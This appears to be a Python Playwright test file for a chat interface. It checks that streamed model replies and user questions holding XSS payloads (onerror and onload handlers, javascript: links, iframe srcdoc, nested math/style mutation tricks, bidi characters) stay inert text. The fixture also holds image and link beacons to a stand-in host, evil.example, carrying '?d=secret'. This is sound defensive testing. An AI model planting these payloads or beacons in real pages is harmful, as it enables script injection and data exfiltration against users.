"""What a model writes never runs, loads or hides anything, while it streams and after (THREATS T22 to T24)."""

import pytest
from playwright.async_api import expect

from tests.browser.chat import begin
from tests.browser.conftest import Visitors
from tests.browser.site import Site, pieces
from tests.conftest import Cast

pytestmark = pytest.mark.asyncio(loop_scope="module")
ATTACKS = """<img src=x onerror=alert(1)><svg/onload=alert(1)>

[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html,<script>alert(1)</script>)

<iframe srcdoc="<script>alert(1)</script>"></iframe> <a href="vbscript:x">v</a>

<style>@import url(https://evil.example/s.css);</style><form action=//evil.example><base href=//evil.example>

![p](https://evil.example/?d=secret) ![q][1] https://evil.example/bare

[1]: https://evil.example/?d=2

```"><img src=x onerror=alert(1)>
<script>alert(1)</script>
```

<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>

$\\href{javascript:alert(1)}{x}$ and a turn\u202eing word\U000e0041.

The end."""
FORBIDDEN = (
    "img, iframe, script, style, form, base, svg, math, object, embed, link, [onerror], [onload], [style], [srcset]"
)


async def addresses(page: object) -> list[str]:
    found: list[str] = await page.evaluate(  # type: ignore[attr-defined]
        "() => [...document.querySelectorAll('.prose a[href]')].map((a) => a.href)"
    )
    return found


@pytest.mark.parametrize("size", [1, 7])
async def test_hostile_replies_stay_inert_in_pieces_of_any_size(
    visitors: Visitors, site: Site, cast: Cast, size: int
) -> None:
    site.say({"pieces": pieces(ATTACKS, size), "pace_ms": 1})
    visitor = await visitors(cast.bob)
    page = await visitor.page("/conversations/")
    await page.evaluate("window.seen = []")
    chat = await begin(page, site)
    await page.evaluate(
        """(selector) => {
            window.seen = [];
            new MutationObserver(() => {
                const bad = document.querySelector(selector.split(', ').map((one) => `.prose ${one}`).join(', '));
                if (bad) window.seen.push(bad.outerHTML);
            }).observe(document.querySelector('[data-thread]'), {subtree: true, childList: true, attributes: true});
        }""",
        FORBIDDEN,
    )
    await chat.ends()
    assert await page.evaluate("window.seen") == []
    await expect(chat.prose.locator(FORBIDDEN)).to_have_count(0)
    assert all(address.startswith("https://evil.example/") for address in await addresses(page))
    await expect(chat.prose).to_contain_text("The end.")
    await expect(chat.prose).to_contain_text("turning word.")
    live = await chat.dom()
    await page.reload()
    assert await chat.dom() == live


async def test_a_hostile_question_is_only_text_in_the_transcript_the_title_and_the_list(
    visitors: Visitors, site: Site, cast: Cast
) -> None:
    question = '<img src=x onerror=alert(1)> </title><script>alert(1)</script> "><b>'
    site.say("No.")
    page = await (await visitors(cast.bob)).page("/conversations/")
    chat = await begin(page, site, question)
    await chat.ends()
    await expect(page.locator(".message__body")).to_have_text(question)
    await expect(page.locator(".conv__title")).to_contain_text("<img src=x")
    await page.reload()
    await expect(page.locator(".message__body")).to_have_text(question)
    await expect(page.get_by_role("heading", level=1)).to_contain_text("<img src=x")


async def test_money_in_a_table_is_money_while_it_streams(visitors: Visitors, site: Site, cast: Cast) -> None:
    """A dollar sign before a letter is no formula."""
    text = "| Cause | Gross profit, $k |\n| --- | ---: |\n| Freight | −27 |\n\nThat is $27k, or `$27k`.\n\n"
    site.say({"pieces": [*pieces(text, 3), *["And so on. "] * 40], "pace_ms": 60})
    visitor = await visitors(cast.bob)
    page = await visitor.page("/conversations/")
    chat = await begin(page, site)
    await expect(chat.prose.locator("code")).to_have_text("$27k")
    assert await page.locator("[aria-busy=true]").count() == 1, "the answer was not streaming any more"
    await expect(chat.prose.locator("thead th").nth(1)).to_have_text("Gross profit, $k")
    await expect(chat.prose.locator("tbody td")).to_have_text("−27")
    await chat.ends()
